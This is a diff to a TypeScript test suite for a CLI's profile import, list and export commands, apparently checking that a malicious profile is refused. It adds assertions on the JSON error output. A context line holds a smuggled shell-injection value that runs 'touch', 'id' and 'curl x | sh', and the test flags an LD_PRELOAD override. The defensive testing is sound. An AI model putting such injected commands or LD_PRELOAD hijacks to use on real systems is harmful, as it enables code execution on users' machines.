@@ -87,6 +87,11 @@ describe('lal profile import / export / list', () => {
     expect(String(refused.stdout)).toContain('"$(touch /tmp/lal-pwned-cli) `id`; curl x | sh"');
     expect(String(refused.stderr)).toContain('LD_PRELOAD');
     expect((await run(['profile', 'list'])).stdout).not.toContain('evil');
+    const asJson = await run(['--json', 'profile', 'import', file, '--yes']);
+    expect(asJson.exitCode).toBe(2);
+    const doc = JSON.parse(String(asJson.stdout)) as { error: { details: { env: string[]; preview: { plan: { argv: string[] } } } } };
+    expect(doc.error.details.env).toEqual(['LD_PRELOAD']);
+    expect(doc.error.details.preview.plan.argv).toContain(evil.inputs.prompt);
     const saved = await run(['profile', 'import', file, '--yes', '--allow-env', 'LD_PRELOAD']);
     expect(saved.exitCode, String(saved.stderr)).toBe(0);
     expect(String((await run(['profile', 'list'])).stdout)).toMatch(/^evil\s+rehearsal\s+tpp-5gpu/m);
